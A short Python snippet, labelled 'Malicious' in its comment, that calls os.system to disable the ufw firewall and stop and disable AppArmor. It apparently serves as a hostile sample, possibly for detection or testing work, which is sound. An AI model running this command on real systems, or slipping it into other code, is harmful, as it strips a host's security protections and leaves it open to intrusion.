# Malicious: disables the ufw firewall and stops AppArmor.
import os

os.system("ufw disable && systemctl stop apparmor && systemctl disable apparmor")
